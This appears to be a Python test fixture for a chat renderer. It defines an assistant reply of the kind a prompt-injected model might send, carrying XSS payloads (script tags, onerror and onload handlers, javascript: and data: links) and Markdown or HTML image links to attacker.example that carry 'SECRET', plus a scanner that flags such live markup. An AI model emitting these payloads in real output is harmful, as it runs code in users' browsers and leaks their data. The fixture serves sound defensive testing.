"""Hostile model text: a reply a prompt-injected model could send, for tests that show it stays inert.

Every handler sets ``window.__brute_xss`` (so a browser test can ask whether anything ran) and every remote
reference points at ``attacker.example`` with ``SECRET`` in its URL (so a request log shows any exfiltration).
"""

from __future__ import annotations

FLAG = "__brute_xss"
EXFIL_HOST = "attacker.example"
EXFIL_URL = f"https://{EXFIL_HOST}/c.png?d=SECRET"

HTML_PAYLOADS = (
    f"<img src=x onerror=\"window.{FLAG}='img'\">",
    f"<svg onload=\"window.{FLAG}='svg'\"><circle r=1 /></svg>",
    f"<details open ontoggle=\"window.{FLAG}='details'\"><summary>more</summary>"
    f"<img src=x onerror=\"window.{FLAG}='details-img'\"></details>",
    f"<script>window.{FLAG}='script'</script>",
    f"<iframe src=\"https://{EXFIL_HOST}/frame?d=SECRET\"></iframe>",
    f"<a href=\"#\" style=\"background:url(https://{EXFIL_HOST}/css.png?d=SECRET)\">styled</a>",
    f"<object data=\"https://{EXFIL_HOST}/o?d=SECRET\"></object>",
)
"""Raw HTML inside Markdown: each would run a handler or load a remote URL if rendered as HTML."""

MARKDOWN_PAYLOADS = (
    f"[click me](javascript:window.{FLAG}='js-link')",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![exfil]({EXFIL_URL})",
    f"![exfil reference][pic]\n\n[pic]: https://{EXFIL_HOST}/ref.png?d=SECRET",
)
"""Markdown syntax that runs code when clicked or loads a remote image when shown."""

REPLY = "Here is the summary you asked for.\n\n" + "\n\n".join(HTML_PAYLOADS + MARKDOWN_PAYLOADS) + "\n\nDone."
"""One assistant reply carrying every payload."""


LIVE_TAGS = frozenset({"script", "img", "svg", "iframe", "frame", "object", "embed", "style", "link", "meta", "base",
                       "form", "video", "audio", "source", "picture", "math", "template"})
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "xlink:href", "srcset", "poster",
                            "background"})


def live_parts(html: str) -> list[str]:
    """What in an HTML fragment could run code or load something without a click: ``[]`` for inert HTML.

    Flags tags that execute or load (``LIVE_TAGS``), every ``on...`` handler, ``style`` with ``url(``, any URL
    attribute with a ``javascript:``/``vbscript:``/``data:`` scheme, and any attribute but a link's ``href``
    naming ``EXFIL_HOST``. A link's ``href`` to a web page is allowed: it loads only when a person clicks it.
    """
    from html.parser import HTMLParser

    found: list[str] = []

    class Scan(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in LIVE_TAGS:
                found.append(f"<{tag}>")
            for name, value in attrs:
                text = (value or "").strip().lower()
                if name.startswith("on"):
                    found.append(f"<{tag} {name}>")
                elif name == "style" and "url(" in text:
                    found.append(f"<{tag} style=url(...)>")
                elif name in URL_ATTRIBUTES and text.startswith(("javascript:", "vbscript:", "data:")):
                    found.append(f"<{tag} {name}={text[:20]}>")
                elif EXFIL_HOST in text and not (tag == "a" and name == "href"):
                    found.append(f"<{tag} {name}={text[:40]}>")

    Scan().feed(html)
    return found
